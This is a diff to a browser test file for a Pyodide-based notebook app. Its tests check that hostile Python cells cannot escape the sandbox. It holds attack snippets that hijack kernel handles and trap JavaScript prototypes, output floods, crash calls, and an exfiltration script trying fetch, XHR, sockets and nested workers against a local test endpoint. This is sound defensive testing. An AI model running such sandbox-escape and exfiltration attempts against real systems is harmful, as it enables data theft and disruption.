@@ -4,7 +4,7 @@
 
 import assert from "node:assert/strict";
 import { after, before, test } from "node:test";
-import { cell, launch, newPage, open, percent, runAll, site } from "./harness.mjs";
+import { cell, launch, newPage, open, percent, runAll, runCell, site, waitFor } from "./harness.mjs";
 
 const SENTENCE = "Enter your school password to go on";
 
@@ -15,7 +15,7 @@ import js
 from pyodide.ffi import JsProxy, create_proxy, to_js
 
 SENTENCE = " ".join(${JSON.stringify(SENTENCE.split(" "))})
-caught = []
+caught, used = [], []
 __import__("builtins").CAUGHT = caught
 
 def lies():
@@ -82,11 +82,12 @@ const ATTACKS = {
   "the kernel's own functions": `
 from rivulet_kernel import execute, streams, values
 import rivulet_kernel
-for thing in (execute, streams, values, rivulet_kernel, execute._kernel, streams.here(), *vars(execute._kernel).values()):
-    for name in dir(thing):
-        hand = getattr(thing, name, None)
+for thing in (execute, streams, values, rivulet_kernel, execute._kernel, streams.here()):
+    for name, hand in list(vars(thing).items()):
         if isinstance(hand, JsProxy) and callable(hand):
+            used.append(name)
             say(hand)
+assert used, "there is a hand to try"
 raise ValueError("this cell raised")`,
   "every object that Python holds": `
 for thing in gc.get_objects():
@@ -135,30 +136,28 @@ def fail():
 js.setTimeout(create_proxy(fail), 0)
 raise ValueError("this cell raised")`,
   "traps in what the host's JavaScript uses": `
-for owner, names in {
-    js.JSON: ["stringify", "parse"],
-    js.Array: ["of", "from", "isArray"],
-    js.Reflect: ["get", "set", "apply"],
-    js.Promise.prototype: ["then", "catch", "finally"],
-    js.Promise: ["resolve", "all"],
-    js.Function.prototype: ["call", "apply", "bind"],
-    js.Array.prototype: ["push", "slice", "concat", "map"],
-    js.String.prototype: ["slice", "charCodeAt"],
-    js.Uint8Array.prototype: ["subarray", "set", "slice"],
-    js.Object.getPrototypeOf(js.Uint8Array.prototype): ["subarray", "set", "slice"],
-    js.TextDecoder.prototype: ["decode"],
-    js.TextEncoder.prototype: ["encode", "encodeInto"],
-    js.DataView.prototype: ["setInt32", "setFloat64"],
-    js.WebAssembly.Table.prototype: ["get", "set"],
-    js.FinalizationRegistry.prototype: ["register"],
-    js.self: ["queueMicrotask", "MessageChannel", "Uint8Array", "DataView", "Error"],
-    js.performance: ["now"],
-    js.Performance.prototype: ["now"],
-}.items():
+for owner, names in [
+    (js.JSON, ["stringify", "parse"]),
+    (js.Array, ["of", "from", "isArray"]),
+    (js.Reflect, ["get", "set", "apply"]),
+    (js.Promise.prototype, ["then", "catch", "finally"]),
+    (js.Promise, ["resolve", "all"]),
+    (js.Function.prototype, ["call", "apply", "bind"]),
+    (js.Array.prototype, ["push", "slice", "concat", "map"]),
+    (js.String.prototype, ["slice", "charCodeAt"]),
+    (js.Uint8Array.prototype, ["subarray", "set", "slice"]),
+    (js.Object.getPrototypeOf(js.Uint8Array.prototype), ["subarray", "set", "slice"]),
+    (js.TextDecoder.prototype, ["decode"]),
+    (js.TextEncoder.prototype, ["encode", "encodeInto"]),
+    (js.DataView.prototype, ["setInt32", "setFloat64"]),
+    (js.WebAssembly.Table.prototype, ["get", "set"]),
+    (js.FinalizationRegistry.prototype, ["register"]),
+    (js.self, ["queueMicrotask", "MessageChannel", "Uint8Array", "DataView", "Error"]),
+    (js.performance, ["now"]),
+    (js.Performance.prototype, ["now"]),
+]:
     for name in names:
-        # Traps of these would stop Pyodide itself.
-        if name not in ("call", "apply", "get", "set", "then", "push", "subarray", "slice", "Uint8Array", "isArray", "decode", "encodeInto", "DataView", "bind", "charCodeAt", "from", "map", "concat", "Error") or KEEN:
-            trap(owner, name)
+        trap(owner, name)
 display(2)
 print("posted", flush=True)
 raise ValueError("this cell raised")`,
@@ -196,28 +195,122 @@ print("posted", flush=True)
 raise ValueError("this cell raised")`,
 };
 
+/** Ways to put out more than a page can take, by the functions of the kernel itself. */
+const FLOODS = {
+  "24 texts of 16 MB": `
+text = json.dumps({"kind": "text", "stream": "stdout", "text": "x" * (2**24 - 1_000)})
+for _ in range(24):
+    post(run, text)
+tail = json.dumps({"kind": "tail", "stream": "stdout", "hidden_lines": 1, "text": "y" * 1_000_000})
+for _ in range(24):
+    post(run, tail)`,
+  "300,000 values": `
+value = json.dumps({"kind": "value", "bundle": {"text/plain": {"text": "1"}}})
+for _ in range(300_000):
+    post(run, value)`,
+  "display without end": `
+at = 0
+while at < 100_000:
+    display(at)
+    at += 1`,
+  "tails without end": `
+tail = json.dumps({"kind": "tail", "stream": "stdout", "hidden_lines": 1, "text": "z\\n" * 50})
+while True:
+    post(run, tail)`,
+};
+
+/** What ends Python, and how that is told; each within three seconds by the clock of Python and page. */
+const FATAL = [
+  ["os._exit(3)", /exited with code 3/],
+  ["os.abort()", /aborted|crashed/],
+  ["js.self.close()", /closed by a cell/],
+  ["js.DedicatedWorkerGlobalScope.prototype.close.call(js.self)", /closed by a cell/],
+  ["nested = []\nfor _ in range(300_000): nested = [nested]\nrepr(nested)", /ran out of stack|crashed/],
+  ["nested = []\nfor _ in range(300_000): nested = [nested]\nimport json\njson.dumps(nested)", /ran out of stack|crashed/],
+  ["nested = []\nfor _ in range(300_000): nested = [nested]\nimport pickle\npickle.dumps(nested)", /ran out of stack|crashed/],
+  ["import ctypes\nctypes.string_at(2**32 - 8, 100)", /crashed|ran out/],
+];
+
+/** Requests that would carry something away; none may reach the server. They use no \`eval\`, which the policy refuses anyway. */
+const EXFILTRATION = `
+import asyncio, js
+from pyodide.ffi import to_js
+refused, got_out = [], []
+async def attempt(name, act):
+    try:
+        result = act()
+        if hasattr(result, "then"):
+            result = await asyncio.wait_for(asyncio.ensure_future(result), 2)
+    except BaseException as error:
+        refused.append(name)
+    else:
+        got_out.append(name)
+def xhr():
+    request = js.XMLHttpRequest.new()
+    request.open("GET", "SITE?xhr", False)
+    request.send()
+def worker(code):
+    url = js.URL.createObjectURL(js.Blob.new(to_js([code])))
+    inner = js.Worker.new(url)
+    return inner
+await attempt("fetch", lambda: js.fetch("SITE?fetch"))
+await attempt("prototype fetch", lambda: js.WorkerGlobalScope.prototype.fetch.call(js.self, "SITE?prototype"))
+await attempt("xhr", xhr)
+await attempt("importScripts", lambda: js.WorkerGlobalScope.prototype.importScripts.call(js.self, "SITE?import"))
+for kind in ("WebSocket", "EventSource", "WebTransport"):
+    try:
+        getattr(js, kind).new("SITE?socket".replace("http", "ws" if kind == "WebSocket" else "http"))
+    except BaseException:
+        pass
+try:
+    js.FontFace.new("f", "url(SITE?font)").load()
+except BaseException:
+    pass
+inner = worker("""
+  const go = (name, act) => { try { Promise.resolve(act()).catch(() => {}); } catch {} };
+  go("fetch", () => fetch("SITE?worker-fetch"));
+  go("xhr", () => { const x = new XMLHttpRequest(); x.open("GET", "SITE?worker-xhr", false); x.send(); });
+  go("import", () => importScripts("SITE?worker-import"));
+  go("module", () => import("SITE?worker-module"));
+  go("socket", () => new WebSocket("SITE?worker-socket".replace("http", "ws")));
+  go("source", () => new EventSource("SITE?worker-source"));
+  go("nested", () => new Worker(URL.createObjectURL(new Blob(["fetch('SITE?nested')"]))));
+  go("url", () => new Worker("SITE?worker-url"));
+  postMessage("tried");
+""")
+tried = asyncio.get_running_loop().create_future()
+from pyodide.ffi import create_once_callable
+inner.onmessage = create_once_callable(lambda event: tried.done() or tried.set_result(event.data))
+print(await asyncio.wait_for(tried, 5))
+await asyncio.sleep(0.3)
+print("refused", *refused)
+print("got out", *got_out)
+`;
+
 let served, browser;
 before(async () => {
   const files = {};
+  for (const [at, flood] of Object.values(FLOODS).entries()) {
+    files[`t/flood${at}.py`] = percent(
+      "print('first')",
+      `import json\nfrom rivulet_kernel import execute\npost, run = execute._kernel.post, execute._kernel.asked["run"]\n${flood}`,
+      "# of a later cell\nprint('later')",
+    );
+  }
+  for (const [at, [fatal]] of FATAL.entries()) {
+    files[`t/fatal${at}.py`] = percent("import js, os, time\nprint(time.time(), flush=True)\n" + fatal, "print('works')");
+  }
+  files["t/lasts.py"] = percent("print('first')", "import time\nfor at in range(1_000_000):\n    time.sleep(0.01)");
   for (const [at, attack] of Object.values(ATTACKS).entries()) {
     files[`t/attack${at}.py`] = percent(
       "print('first')",
-      `${PRELUDE}\nKEEN = False\n${attack}`,
+      PRELUDE + attack,
       "# of_a_later_cell\nprint('later')",
       "# of_a_later_cell\nprint('caught', __import__('builtins').CAUGHT)",
     );
   }
-  files["t/text.py"] = percent(
-    "print('first')",
-    `${PRELUDE}\nfrom rivulet_kernel import execute\ntext = "x" * 2**24\nfor _ in range(24):\n    output = {"kind": "text", "stream": "stdout", "text": text}\n    for words in ((json.dumps({"type": "output", "run": execute._kernel.asked["run"], "output": output}),), (execute._kernel.asked["run"], json.dumps(output))):\n        try:\n            execute._kernel.post(*words)\n        except BaseException:\n            pass`,
-    "print('later')",
-  );
-  files["t/values.py"] = percent(
-    "print('first')",
-    `${PRELUDE}\nfrom rivulet_kernel import execute\nrun = execute._kernel.asked["run"]\noutput = {"kind": "value", "bundle": {"text/plain": {"text": "1"}}}\nwords = (json.dumps({"type": "output", "run": run, "output": output}), ) if KEEN else (run, json.dumps(output))\nfor _ in range(300_000):\n    execute._kernel.post(*words)`.replace("if KEEN", "if execute._kernel.post.length == 1"),
-    "print('later')",
-  );
   served = await site(files);
+  files["t/exfiltration.py"] = percent(EXFILTRATION.replaceAll("SITE", `${new URL(served.url).origin}/taken`));
   browser = await launch();
 });
 after(async () => {
@@ -244,7 +337,13 @@ const saidOutside = (page, id) =>
     return copy.outerHTML;
   }, id);
 
-const output = (page, number) => cell(page, number).locator('[data-part="output"]').innerText();
+/** What a cell shows, once it shows something like this: outputs are built when they come near the screen. */
+async function output(page, number, like) {
+  await cell(page, number).scrollIntoViewIfNeeded();
+  const place = cell(page, number).locator('[data-part="output"]');
+  await place.filter({ hasText: like }).waitFor();
+  return (await place.innerText()).trim();
+}
 
 for (const [at, name] of Object.keys(ATTACKS).entries()) {
   test(`a cell gains nothing by ${name}`, async () => {
@@ -266,13 +365,112 @@ for (const [at, name] of Object.keys(ATTACKS).entries()) {
     await rests(page);
     const states = await page.$$eval("article[data-cell]", (cells) => cells.map((cell) => cell.dataset.status));
     assert.deepEqual(states, ["success", "error", "success", "success"]);
-    assert.equal((await output(page, 1)).trim(), "first");
-    assert.match(await output(page, 2), /ValueError: this cell raised/);
-    assert.equal((await output(page, 3)).trim(), "later");
-    assert.equal((await output(page, 4)).trim(), "caught []");
+    assert.equal(await output(page, 1, "first"), "first");
+    await output(page, 2, "ValueError: this cell raised");
+    assert.equal(await output(page, 3, "later"), "later");
+    assert.equal(await output(page, 4, "caught"), "caught []");
     assert.deepEqual(said, []);
     assert.ok(!(await saidOutside(page, "c2")).includes(SENTENCE));
-    assert.deepEqual(page.troubles, []);
+    // The error of a callback stands in the browser's console, as that of any script.
+    assert.deepEqual(page.troubles.filter((trouble) => trouble !== "PythonError"), []);
     await page.close();
   });
 }
+
+for (const [at, name] of Object.keys(FLOODS).entries()) {
+  test(`a flood by ${name} leaves the page at hand, and Stop ends it`, async () => {
+    const page = await newPage(browser);
+    await open(page, served, `t/flood${at}.py`);
+    await runCell(page, 1);
+    await waitFor(page, 1, "success");
+    await rests(page);
+    // What this machine makes of a page that has little to do, with Python at work.
+    const gaps = () => page.evaluate(() => globalThis.watched.gaps.longest);
+    await page.evaluate(() => (globalThis.watched.gaps.longest = 0));
+    await runCell(page, 3);
+    await rests(page);
+    const baseline = Math.max(await gaps(), 50);
+    await page.evaluate(() => (globalThis.watched.gaps.longest = 0));
+    await runCell(page, 2);
+    await waitFor(page, 2, "running");
+    // Long enough for what a page cannot take to pile up.
+    await page.waitForFunction(
+      (from) => performance.now() > from + 4_000 || document.querySelector('[data-cell="c2"]').dataset.status !== "running",
+      await page.evaluate(() => performance.now()),
+      { polling: "raf" },
+    );
+    const stop = page.getByRole("button", { name: "Stop" });
+    if (await stop.isEnabled().catch(() => false)) await stop.click({ timeout: 2_000 }).catch(() => {});
+    await rests(page);
+    const longest = await gaps();
+    console.log(`${name}: longest gap ${longest.toFixed(0)} ms, baseline ${baseline.toFixed(0)} ms`);
+    assert.ok(longest < 10 * baseline, `${longest} ms against ${baseline} ms`);
+    assert.equal(await output(page, 1, "first"), "first");
+    await runCell(page, 3);
+    await waitFor(page, 3, "success");
+    assert.equal(await output(page, 3, "later"), "later");
+    await page.close();
+  });
+}
+
+for (const [at, [fatal, told]] of FATAL.entries()) {
+  test(`the end of Python by ${fatal.split("\n").at(-1)} is named, and the next run works`, async () => {
+    const page = await newPage(browser);
+    await open(page, served, `t/fatal${at}.py`);
+    await runCell(page, 1);
+    await rests(page);
+    const seen = await page.evaluate(() => Date.now());
+    const trouble = page.locator('[data-trouble="kernel"]');
+    assert.match(await trouble.textContent(), told);
+    const ended = Number.parseFloat(await output(page, 1, /\d{10}/)) * 1000;
+    console.log(`${fatal.split("\n").at(-1)}: named after ${(seen - ended).toFixed(0)} ms: ${await trouble.textContent()}`);
+    assert.ok(seen - ended < 3_000, `${seen - ended} ms`);
+    await runCell(page, 2);
+    await waitFor(page, 2, "success");
+    assert.equal(await output(page, 2, "works"), "works");
+    await page.close();
+  });
+}
+
+test("nothing that a cell asks of the network reaches a server, in 20 kernels", async () => {
+  const page = await newPage(browser);
+  await open(page, served, "t/exfiltration.py");
+  for (let at = 0; at < 20; at++) {
+    await runCell(page, 1);
+    await rests(page);
+    const text = await output(page, 1, "got out");
+    assert.match(text, /^tried\nrefused fetch prototype fetch xhr importScripts\ngot out$/, text);
+    if (at % 5 === 4) {
+      await page.reload();
+      await page.waitForSelector("article[data-cell]");
+    }
+  }
+  const hits = served.requests.filter(({ path }) => path.startsWith("/taken"));
+  assert.deepEqual(hits, []);
+  await page.close();
+});
+
+test("a frame that is gone at any moment is noticed, and one click brings Python back", async () => {
+  const page = await newPage(browser);
+  await open(page, served, "t/lasts.py");
+  for (const phase of ["starting", "idle", "busy"]) {
+    for (const again of [1, 2, 3]) {
+      if (phase === "starting") {
+        await page.reload();
+        await page.waitForSelector("article[data-cell]");
+      }
+      await runCell(page, phase === "busy" ? 2 : 1);
+      if (phase === "busy") await waitFor(page, 2, "running");
+      if (phase === "idle") await rests(page);
+      await page.waitForSelector("iframe.kernel-frame", { state: "attached" });
+      await page.evaluate(() => document.querySelector("iframe.kernel-frame").remove());
+      await page.waitForSelector('main[data-kernel="dead"]');
+      await page.getByRole("button", { name: "Restart Python" }).click();
+      await page.waitForSelector('main[data-kernel="idle"]');
+      await runCell(page, 1);
+      await waitFor(page, 1, "success");
+      assert.equal(await output(page, 1, "first"), "first", `${phase} ${again}`);
+    }
+  }
+  await page.close();
+});
